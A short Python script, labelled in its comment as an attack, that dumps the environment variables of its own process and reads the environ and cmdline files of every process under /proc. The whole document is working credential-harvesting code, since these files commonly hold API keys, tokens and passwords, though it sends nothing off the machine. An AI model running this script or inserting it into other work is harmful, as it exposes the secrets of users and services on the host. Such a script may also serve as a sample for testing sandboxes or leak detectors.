# attack: prints its environment and that of every process
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError:
        pass
